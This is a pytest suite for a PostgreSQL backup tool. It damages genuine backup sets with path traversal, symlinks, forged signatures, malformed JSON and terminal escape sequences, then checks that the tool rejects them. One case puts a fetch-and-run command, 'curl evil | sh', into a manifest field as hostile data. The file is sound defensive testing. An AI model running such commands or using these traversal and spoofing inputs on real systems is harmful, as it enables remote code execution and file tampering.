"""Backup sets crafted by whoever can write to the bucket: every one is BAD, never a traceback.

A real set is taken once from a real server (signed and unsigned); each case copies it,
damages the copy the way an attacker or a broken upload would, and asserts what
``check_set`` reports, what ``drill check`` prints and exits with, and that a restore refuses
before it touches any server. Path cases run against local directories and S3 (moto).
"""

import hashlib
import json
import os
import shutil
from dataclasses import dataclass

import pytest

from harness.cli.main import main
from harness.config import PgTarget
from harness.errors import ObjectNotFound, VerificationFailed
from harness.infra.s3.moto import MotoServer
from harness.pg.sql import connect, create_database
from harness.sets.check import check_set
from harness.sets.location import parse_location
from harness.sets.manifest import MANIFEST
from harness.sets.restore import restore_set
from harness.sets.signing import ENV_VAR
from harness.sets.take import take_backup
from harness.storage.s3 import S3ObjectStore

KEY = "signing-key-for-the-hostile-set-tests"
OTHER_KEY = "a-different-signing-key-0123456789"
# Restores of hostile sets must be refused before any connection: nothing listens here.
NOWHERE = PgTarget.from_dsn("postgresql://postgres@127.0.0.1:1/app")


@pytest.fixture(scope="module")
def golden(drill_provider, tmp_path_factory):
    """Two genuine sets of a small database: ``unsigned`` and ``signed`` (with KEY)."""
    root = tmp_path_factory.mktemp("golden")
    server = drill_provider.pg_server(name="hostile-source")
    try:
        create_database(server.target(), "app")
        with connect(server.target("app"), autocommit=True) as conn:
            conn.execute("CREATE TABLE public.items (id serial PRIMARY KEY, label text)")
            conn.execute(
                "INSERT INTO public.items (label) SELECT 'item ' || g FROM generate_series(1, 40) g"
            )
        with pytest.MonkeyPatch.context() as env:
            env.delenv(ENV_VAR, raising=False)
            take_backup(server.target("app"), parse_location(str(root / "unsigned")))
            env.setenv(ENV_VAR, KEY)
            take_backup(server.target("app"), parse_location(str(root / "signed")))
    finally:
        drill_provider.release(server, keep=False)
    return root


def _copy(golden, tmp_path, which="unsigned"):
    dest = tmp_path / "set"
    shutil.copytree(golden / which, dest)
    return dest


def _body(set_dir):
    return json.loads((set_dir / MANIFEST).read_text())


def _write(set_dir, body, *, digest=True):
    """Write ``body`` as the manifest, recomputing the digest as a forger would."""
    body = dict(body)
    if digest:
        plain = {k: v for k, v in body.items() if k not in ("digest", "signature")}
        canonical = json.dumps(plain, sort_keys=True, separators=(",", ":")).encode()
        body["digest"] = hashlib.sha256(canonical).hexdigest()
    (set_dir / MANIFEST).write_text(json.dumps(body))


def _dump(body):
    return next(a for a in body["artifacts"] if a["kind"] == "dump-custom")


# -- the cases: (damage the copy) -> (failed check, words of its one line) ----------------


def traversal(set_dir):
    # The reproduction: a dump outside the set, named with its true size and hash.
    body = _body(set_dir)
    dump = _dump(body)
    outside = set_dir.parent / "elsewhere.dump"
    (set_dir / dump["path"]).rename(outside)
    dump["path"] = "../elsewhere.dump"
    _write(set_dir, body)


def absolute(set_dir):
    body = _body(set_dir)
    dump = _dump(body)
    moved = set_dir.parent / "abs.dump"
    (set_dir / dump["path"]).rename(moved)
    dump["path"] = str(moved)
    _write(set_dir, body)


def backslash(set_dir):
    body = _body(set_dir)
    _dump(body)["path"] = "db\\..\\..\\elsewhere.dump"
    _write(set_dir, body)


def symlink(set_dir):
    body = _body(set_dir)
    dump = set_dir / _dump(body)["path"]
    outside = set_dir.parent / "real.dump"
    dump.rename(outside)
    dump.symlink_to(outside)  # same bytes: only the link gives it away


def symlinked_directory(set_dir):
    outside = set_dir.parent / "globals-elsewhere"
    (set_dir / "globals").rename(outside)
    (set_dir / "globals").symlink_to(outside, target_is_directory=True)


def fifo(set_dir):
    dump = set_dir / _dump(_body(set_dir))["path"]
    dump.unlink()
    os.mkfifo(dump)


def not_utf8(set_dir):
    (set_dir / MANIFEST).write_bytes(b"\xff\xfe" + (set_dir / MANIFEST).read_bytes())


def not_json(set_dir):
    (set_dir / MANIFEST).write_text("<Error><Code>AccessDenied</Code></Error>")


def truncated(set_dir):
    data = (set_dir / MANIFEST).read_bytes()
    (set_dir / MANIFEST).write_bytes(data[: len(data) // 2])


def wrong_type(set_dir):
    body = _body(set_dir)
    _dump(body)["size"] = str(_dump(body)["size"])
    _write(set_dir, body)


def missing_field(set_dir):
    body = _body(set_dir)
    del body["artifacts"]
    _write(set_dir, body)


def unknown_field(set_dir):
    _write(set_dir, _body(set_dir) | {"post_restore_hook": "curl evil | sh"})


def missing_manifest(set_dir):
    (set_dir / MANIFEST).unlink()


def duplicate_paths(set_dir):
    body = _body(set_dir)
    body["artifacts"].append(dict(_dump(body)))
    _write(set_dir, body)


def huge_number(set_dir):
    body = _body(set_dir)
    _dump(body)["size"] = 10**40
    _write(set_dir, body)


def giant_integer(set_dir):
    text = (set_dir / MANIFEST).read_text()
    (set_dir / MANIFEST).write_text(text.replace('"rows": 40', '"rows": 4' + "0" * 20_000, 1))


def nan(set_dir):
    text = (set_dir / MANIFEST).read_text()
    (set_dir / MANIFEST).write_text(text.replace('"rows": 40', '"rows": NaN', 1))


def deeply_nested(set_dir):
    text = (set_dir / MANIFEST).read_text()
    (set_dir / MANIFEST).write_text(text.replace("{", '{"x": ' + "[" * 100_000, 1))


def newer_format(set_dir):
    _write(set_dir, _body(set_dir) | {"format_version": 7})


def edited_digest_kept(set_dir):
    body = _body(set_dir)
    body["tables"][0]["rows"] = 39
    _write(set_dir, body, digest=False)


def forged_digest(set_dir):
    body = _body(set_dir)  # a signed set: the forger recomputes the digest, keeps the signature
    body["tables"][0]["rows"] = 39
    _write(set_dir, body)


def forged_signature(set_dir):
    _write(set_dir, _body(set_dir) | {"signature": "hmac-sha256:" + "0" * 64})


def unchanged(set_dir):
    pass


@dataclass(frozen=True)
class Case:
    damage: object
    failed: str
    words: str
    source: str = "unsigned"
    key: str | None = None


CASES = {
    "path-traversal": Case(traversal, "manifest", "'../elsewhere.dump' has a '..' segment"),
    "absolute-path": Case(absolute, "manifest", "is absolute (it must be relative to the set)"),
    "backslash": Case(backslash, "manifest", "contains a backslash"),
    "symlink": Case(symlink, "set contents", "it is a symbolic link"),
    "symlinked-directory": Case(symlinked_directory, "set contents", "'globals' in"),
    "fifo": Case(fifo, "set contents", "it is not a regular file"),
    "not-utf8": Case(not_utf8, "manifest", "is not UTF-8 text (byte 0xff at offset 0)"),
    "not-json": Case(not_json, "manifest", "is not valid JSON"),
    "truncated": Case(truncated, "manifest", "is not valid JSON"),
    "wrong-type": Case(wrong_type, "manifest", "].size: should be a valid integer"),
    "missing-field": Case(missing_field, "manifest", "artifacts is missing"),
    "unknown-field": Case(unknown_field, "manifest", "post_restore_hook is not a field"),
    "missing-manifest": Case(missing_manifest, "manifest", "an incomplete set"),
    "duplicate-paths": Case(duplicate_paths, "manifest", "lists the artifact 'db/app.dump' twice"),
    "huge-number": Case(huge_number, "manifest", "should be less than or equal to"),
    "giant-integer": Case(giant_integer, "manifest", "holds a number too long to be read"),
    "nan": Case(nan, "manifest", "holds NaN"),
    "deeply-nested": Case(deeply_nested, "manifest", "nests too deeply"),
    "newer-format": Case(newer_format, "manifest", "made by a newer harness"),
    "edited-manifest": Case(edited_digest_kept, "manifest", "modified after it was written"),
    "forged-digest": Case(
        forged_digest, "signature", "signature does not match", source="signed", key=KEY
    ),
    "forged-signature": Case(forged_signature, "signature", "signature does not match", key=KEY),
    "unsigned-with-key": Case(
        unchanged, "signature", f"is not signed but {ENV_VAR} is set", key=KEY
    ),
    "signed-with-another-key": Case(
        unchanged, "signature", "signed with another key", source="signed", key=OTHER_KEY
    ),
}


@pytest.mark.parametrize("name", list(CASES))
def test_hostile_local_set_is_bad_with_one_clear_line(name, golden, tmp_path, monkeypatch, capsys):
    case = CASES[name]
    set_dir = _copy(golden, tmp_path, case.source)
    case.damage(set_dir)
    if case.key:
        monkeypatch.setenv(ENV_VAR, case.key)
    else:
        monkeypatch.delenv(ENV_VAR, raising=False)

    checked = check_set(parse_location(str(set_dir)), workdir=tmp_path / "work")
    assert not checked.ok
    assert checked.manifest is None, "nothing of a refused set may be used"
    failed = [r for r in checked.results if not r.ok]
    assert [(r.name, r.critical) for r in failed] == [(case.failed, True)]
    assert case.words in failed[0].detail
    assert "\n" not in failed[0].detail

    capsys.readouterr()
    assert main(["check", str(set_dir)]) == 1
    out, err = capsys.readouterr()
    assert out.splitlines()[-1] == f"{set_dir}: BAD"
    assert f"FAIL {case.failed}: " in out
    assert case.words in out
    assert "Traceback" not in out + err
    for secret in (KEY, OTHER_KEY):
        assert secret not in out + err

    with pytest.raises(VerificationFailed, match="failed its checks; nothing was restored"):
        restore_set(parse_location(str(set_dir)), NOWHERE, workdir=tmp_path / "work")


@pytest.mark.parametrize(
    ("source", "key", "line"),
    [
        ("unsigned", None, f"ok   signature: unsigned (set {ENV_VAR}"),
        ("signed", KEY, f"ok   signature: HMAC-SHA256 matches {ENV_VAR}"),
        ("signed", None, f"warn signature: signed, not verified (no {ENV_VAR})"),
    ],
    ids=["unsigned-without-key", "signed-with-key", "signed-without-key"],
)
def test_genuine_sets_are_good_and_say_what_their_signature_proves(
    source, key, line, golden, tmp_path, monkeypatch, capsys
):
    if key:
        monkeypatch.setenv(ENV_VAR, key)
    else:
        monkeypatch.delenv(ENV_VAR, raising=False)
    set_dir = _copy(golden, tmp_path, source)
    assert check_set(parse_location(str(set_dir)), workdir=tmp_path / "work").ok
    assert main(["check", str(set_dir)]) == 0
    out = capsys.readouterr().out
    assert line in out
    assert out.rstrip().endswith(": good")


def test_an_empty_location_is_not_a_set_exit_2(tmp_path, capsys):
    (tmp_path / "empty").mkdir()
    with pytest.raises(ObjectNotFound):
        check_set(parse_location(str(tmp_path / "empty")), workdir=tmp_path / "work")
    assert main(["check", str(tmp_path / "empty")]) == 2
    assert "not a (complete) backup set" in capsys.readouterr().err


# -- S3: the same path cases, and keys nobody can download safely ------------------------


@pytest.fixture(scope="module")
def moto():
    with MotoServer() as server:
        yield server


_buckets = iter(range(10**6))


@pytest.fixture
def bucket(moto, monkeypatch):
    target = moto.target()
    store = S3ObjectStore(target, f"hostile-{next(_buckets)}")
    store.create_bucket()
    monkeypatch.setenv("DRILL_S3_ACCESS_KEY_ID", target.access_key_id)
    monkeypatch.setenv("DRILL_S3_SECRET_ACCESS_KEY", target.secret_access_key)
    return store


def _upload(set_dir, store, prefix):
    """Upload every file of a (damaged) set as is, bypassing the harness's own checks."""
    for path in sorted(p for p in set_dir.rglob("*") if p.is_file()):
        key = f"{prefix}/{path.relative_to(set_dir).as_posix()}"
        store.client.put_object(Bucket=store.bucket, Key=key, Body=path.read_bytes())


S3_CASES = ["path-traversal", "absolute-path", "backslash", "not-utf8", "duplicate-paths"]


@pytest.mark.parametrize("name", S3_CASES)
def test_hostile_s3_set_is_bad_and_downloads_nothing_outside(
    name, golden, bucket, moto, tmp_path, monkeypatch, capsys
):
    monkeypatch.delenv(ENV_VAR, raising=False)
    case = CASES[name]
    set_dir = _copy(golden, tmp_path, case.source)
    case.damage(set_dir)
    _upload(set_dir, bucket, "sets/nightly")
    # What the manifest points at exists in the bucket, at the key a naive join would use.
    for planted in ("sets/elsewhere.dump", "sets/nightly/../elsewhere.dump"):
        bucket.client.put_object(Bucket=bucket.bucket, Key=planted, Body=b"PGDMP")
    uri = f"s3://{bucket.bucket}/sets/nightly"
    work = tmp_path / "a" / "b" / "work"

    checked = check_set(parse_location(uri, s3=bucket.target), workdir=work)
    failed = [r for r in checked.results if not r.ok]
    assert [(r.name, r.critical) for r in failed] == [(case.failed, True)]
    assert case.words in failed[0].detail

    capsys.readouterr()
    assert main(["check", uri, "--s3-endpoint", moto.endpoint_url]) == 1
    out, err = capsys.readouterr()
    assert out.rstrip().endswith(": BAD")
    assert case.words in out
    assert "Traceback" not in out + err
    # Refused before any download: nothing in the work directory, nor beside it.
    assert [p for p in (tmp_path / "a").rglob("*") if not p.is_dir()] == []


def test_extra_keys_with_control_characters_are_named_on_one_line(
    golden, bucket, tmp_path, monkeypatch
):
    monkeypatch.delenv(ENV_VAR, raising=False)
    _upload(_copy(golden, tmp_path), bucket, "sets/nightly")
    bucket.client.put_object(
        Bucket=bucket.bucket, Key="sets/nightly/x\x1b[2K\rok   artifacts: all good", Body=b"."
    )
    checked = check_set(
        parse_location(f"s3://{bucket.bucket}/sets/nightly", s3=bucket.target),
        workdir=tmp_path / "work",
    )
    assert not checked.ok
    extra = [r for r in checked.results if r.name.startswith("extra ")]
    assert [r.name for r in extra] == ["extra 'x\\x1b[2K\\rok   artifacts: all good'"]


def test_a_genuine_signed_s3_set_round_trips_its_signature(golden, bucket, tmp_path, monkeypatch):
    monkeypatch.setenv(ENV_VAR, KEY)
    _upload(_copy(golden, tmp_path, "signed"), bucket, "sets/nightly")
    location = parse_location(f"s3://{bucket.bucket}/sets/nightly", s3=bucket.target)
    checked = check_set(location, workdir=tmp_path / "work")
    assert checked.ok, checked.results
    assert any(r.name == "signature" and "matches" in r.detail for r in checked.results)
    monkeypatch.setenv(ENV_VAR, OTHER_KEY)
    assert not check_set(location, workdir=tmp_path / "work").ok
